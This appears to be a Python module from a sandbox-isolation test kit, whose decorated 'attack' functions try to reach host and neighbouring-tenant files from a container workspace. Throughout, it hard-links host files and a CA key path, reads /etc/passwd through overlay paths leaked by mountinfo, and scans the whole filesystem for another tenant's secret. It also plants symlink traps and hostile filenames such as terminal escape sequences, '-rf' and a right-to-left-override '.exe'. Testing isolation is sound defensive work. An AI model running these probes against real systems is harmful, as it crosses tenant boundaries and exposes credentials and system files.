"""What is left in the workspace for the host to stumble over."""
import os
import socket
import stat

from kit import Stopped, attack, first


@attack("file.link-to-host")
def hard_link(given):
    """A second name for a file of the host, or of the slot's socket directory, in the workspace."""
    folders = ["/workspace"]
    for line in open("/proc/self/mountinfo"):
        words = line.split()
        if words[4] == "/slot":
            folders.append(words[3] + "/workspace")  # by the host's own path, for where that is mounted

    def one(pair):
        os.link(pair[0], pair[1] + "/linked")
        return open("/workspace/linked").read()
    return first([(path, folder) for path in (given["canary"], "/proc/1/root" + given["canary"], "/run/helm/ca.pem")
                  for folder in folders], one)


@attack("file.host-paths")
def host_paths(given):
    """The paths of the host that /proc/self/mountinfo gives away, and Helm's own files by name."""
    paths = [given["canary"], given["neighbourFile"]]
    for line in open("/proc/self/mountinfo"):
        words = line.split()
        paths += [words[3] + "/../../../../canary.txt", words[3] + "/canary.txt"]
        for option in words[-1].split(","):
            if option.startswith(("upperdir=", "lowerdir=")):
                paths += [p + "/etc/passwd" for p in option.split("=", 1)[1].split(":")]

    def one(path):
        return open(path).read()
    return first(paths, one)


@attack("file.neighbour-workspace")
def neighbour(given):
    """Looks for the neighbour's secret in every file that can be reached."""
    begins = given["begins"].encode()
    for folder, names, files in os.walk("/"):
        names[:] = [n for n in names if os.path.join(folder, n) not in ("/proc", "/sys", "/usr", "/dev", "/lib", "/bin")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                if stat.S_ISREG(os.lstat(path).st_mode) and os.path.getsize(path) < 1 << 20:
                    data = open(path, "rb").read()
                    at = data.find(begins)
                    if at >= 0 and not path.endswith(".py"):
                        return path + ": " + data[at:at + 80].decode(errors="replace")
            except OSError:
                pass
    raise Stopped("not in any file")


@attack("leave.links")
def links(given):
    """Links for a service that walks as root: what it reads, owns, opens up or deletes through them."""
    os.makedirs("/workspace/trap", exist_ok=True)
    for name, target in (("file", given["canary"]), ("folder", os.path.dirname(given["canary"])), ("self", ".")):
        path = "/workspace/trap/" + name
        if not os.path.lexists(path):
            os.symlink(target, path)
    return "links laid"


@attack("leave.odd-files")
def odd_files(_):
    """FIFOs, sockets, names of 255 bytes, of control characters, of no text; folders without rights; very deep."""
    base = b"/workspace/odd"
    os.makedirs(base, exist_ok=True)
    os.mkfifo(base + b"/fifo")
    s = socket.socket(socket.AF_UNIX)
    s.bind(base + b"/socket")
    for name in (b"n" * 255, b"\xff\xfe", b"line\nbreak", b"\x1b]0;title\x07\x1b[2J", b"-rf", b"\xe2\x80\xaetxt.exe", b" ", b"..."):
        with open(base + b"/" + name, "w") as f:
            f.write("x")
    os.makedirs(base + b"/locked/inner")
    os.chmod(base + b"/locked/inner", 0)
    os.chmod(base + b"/locked", 0)
    os.chdir(base)
    for _ in range(2500):
        os.mkdir(b"deep" * 20)
        os.chdir(b"deep" * 20)
    with open("bottom", "w") as f:
        f.write("x")
    return "left"
